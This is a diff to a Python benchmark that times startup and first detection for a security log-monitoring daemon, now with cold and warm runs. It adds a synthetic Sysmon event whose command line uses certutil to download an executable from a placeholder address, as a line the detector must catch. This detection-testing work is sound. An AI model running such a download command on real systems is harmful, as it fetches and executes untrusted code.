@@ -1,7 +1,8 @@
 """Beside the line: how long after its start the appliance answers, and finds.
 
-The daemon starts on an empty state directory and a log that already holds one line that must be
-found. Files are in the page cache after the first start: what is measured is not a cold disk.
+The daemon starts on a log that already holds one line that must be found: cold on an empty state
+directory, then warm on what the cold start left there, with one more line. Files are in the page
+cache after the first start: what is measured is not a cold disk.
 """
 
 import argparse
@@ -10,8 +11,8 @@ import os
 import subprocess
 import tempfile
 import time
-from collections.abc import Sequence
-from datetime import UTC
+from collections.abc import Callable, Sequence
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Final
 
@@ -61,45 +62,70 @@ def measure(options: argparse.Namespace, report: Report, folder: Path) -> None:
     if options.rules is not None:
         rule_sets.append([default_rules(), options.rules.resolve()])
     words = ["--starts", options.starts, *(["--rules", options.rules] if options.rules else [])]
+    cases = [(model, "sudo") for model in models] + [(False, "Sysmon")]
     for rules in rule_sets:
         about = "default rules" if len(rules) == 1 else f"default rules and {rules[1].name}"
-        for model in models:
-            case = f"the daemon, {about}, {'with' if model else 'without'} the model"
+        for model, kind in cases:
+            case = f"the daemon, {about}, {'with' if model else 'without'} the model, {kind}"
             report.begin(NAME, case, show_part(NAME, *words))
             report.note(f"each start: {show_command('run', '--config', 'FILE')}")
-            times = []
+            times: dict[str, list[tuple[float, float]]] = {"cold": [], "warm": []}
             for _ in range(options.starts):
                 place = Path(tempfile.mkdtemp(prefix="s", dir=folder))
-                times.append(start_once(place, rules, model))
-            report.add_runs("status answered", [time[0] for time in times], "s", "starts")
-            report.add_runs("first finding received", [time[1] for time in times], "s", "starts")
+                for start in times.values():
+                    start.append(start_once(place, rules, model, LINES[kind]))
+            for name, starts in times.items():
+                answered, found = zip(*starts, strict=True)
+                report.add_runs(f"{name}: status answered", answered, "s", "starts")
+                report.add_runs(f"{name}: first finding received", found, "s", "starts")
     config = place / "appliance.yaml"
     _time_command(report, options.starts, folder, ["--help"], Exit.DONE)
     status = ["status", "--config", str(config)]
     _time_command(report, options.starts, folder, status, Exit.NOT_RUNNING)
 
 
-def start_once(folder: Path, rules: Sequence[Path], model: bool) -> tuple[float, float]:
+def _write_sudo(at: float) -> str:
+    message = sudo_line("r.brandt", "/bin/bash")
+    return write_syslog_3164(at, "nh-jump01", "sudo", None, message, UTC)
+
+
+def _write_sysmon(at: float) -> str:
+    return json.dumps({
+        "EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Computer": "nh-ws01",
+        "UtcTime": datetime.fromtimestamp(at, UTC).strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
+        "Image": r"C:\Windows\System32\certutil.exe", "OriginalFileName": "CertUtil.exe",
+        "CommandLine": "certutil.exe -urlcache -split -f http://192.0.2.7/a.exe a.exe",
+        "ParentImage": r"C:\Windows\System32\cmd.exe", "User": r"NH\r.brandt",
+    })  # fmt: skip
+
+
+#: Lines that must be found, by what they are.
+LINES: Final[dict[str, Callable[[float], str]]] = {"sudo": _write_sudo, "Sysmon": _write_sysmon}
+
+
+def start_once(
+    folder: Path, rules: Sequence[Path], model: bool, write_line: Callable[[float], str]
+) -> tuple[float, float]:
     """Seconds from the start of the process to `status` answered, and to the first finding."""
     config = folder / "appliance.yaml"
     paths = ", ".join(json.dumps(str(path)) for path in rules)
     config.write_text(CONFIG.format(folder=folder, rules=paths, model=str(model).lower()))
-    message = sudo_line("r.brandt", "/bin/bash")
-    line = write_syslog_3164(time.time(), "nh-jump01", "sudo", None, message, UTC)
-    (folder / "auth.log").write_text(line + "\n")
+    with (folder / "auth.log").open("a") as log:
+        log.write(write_line(time.time()) + "\n")
     found: list[float] = []
+    (folder / "syslog.sock").unlink(missing_ok=True)
     receiver = SyslogReceiver(
         folder / "syslog.sock",
         lambda message: found.append(message.at) if message.kind == "FINDING" else None,
         time.monotonic,
     )
-    with (folder / "daemon.log").open("wb") as log:
+    with (folder / "daemon.log").open("wb") as said_to:
         began = time.monotonic()
         daemon = subprocess.Popen(
             appliance_command("run", "--config", config),
             stdin=subprocess.DEVNULL,
-            stdout=log,
-            stderr=log,
+            stdout=said_to,
+            stderr=said_to,
             env={**os.environ, "TMPDIR": str(folder)},
         )
         try:
